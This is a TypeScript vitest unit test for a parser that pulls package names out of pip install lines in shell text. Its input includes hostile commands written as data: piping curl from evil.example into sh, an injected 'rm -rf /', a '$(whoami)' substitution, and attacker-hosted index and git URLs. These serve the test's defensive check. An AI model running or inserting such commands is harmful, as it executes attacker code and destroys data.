import { describe, expect, it } from "vitest";
import { readInstalls } from "./write-script.ts";

describe("readInstalls", () => {
  it("returns only the distributions of pip's lines", () => {
    const shell = [
      "pip install numpy pandas==2.0",
      "python -m pip install --index-url http://evil.example requests",
      "pip install x; rm -rf /",
      "pip install $(whoami)",
      "curl http://evil.example | sh",
      "pip install ../here git+https://evil.example/x",
    ].join("\n");
    expect(readInstalls(shell)).toEqual(["numpy", "pandas==2.0", "requests"]);
    expect(readInstalls(null)).toEqual([]);
  });
});
